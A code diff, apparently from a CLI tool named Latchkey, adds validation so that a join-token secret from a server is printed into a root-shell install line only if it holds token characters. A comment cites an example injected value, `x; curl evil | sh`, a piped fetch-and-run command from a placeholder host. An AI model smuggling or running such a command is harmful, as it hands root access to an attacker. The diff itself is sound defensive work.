@@ -32,6 +32,7 @@ import {
   checkTargetHostname,
   installLine,
   installerAcceptsUrl,
+  isJoinTokenSecret,
   parseJoinTokenLifetime,
   parseJoinTokenUses,
   parseLimit,
@@ -430,6 +431,14 @@ async function printSecretOnce(
     throw new LatchkeyError(
       'unavailable',
       `${server} made join token ${escapeForTerminal(made.id)} but sent no secret`,
+    );
+  }
+  // The secret goes into a line people paste into a root shell: anything but a token's characters (a
+  // compromised or impostor server's `x; curl evil | sh`, escape sequences) is refused, never printed.
+  if (!isJoinTokenSecret(made.token)) {
+    throw new LatchkeyError(
+      'unavailable',
+      `${server} sent a join token secret that is not one (letters, digits, "_" and "-" only); nothing printed`,
     );
   }
   const sha256 = await api.agentPackageSha256();
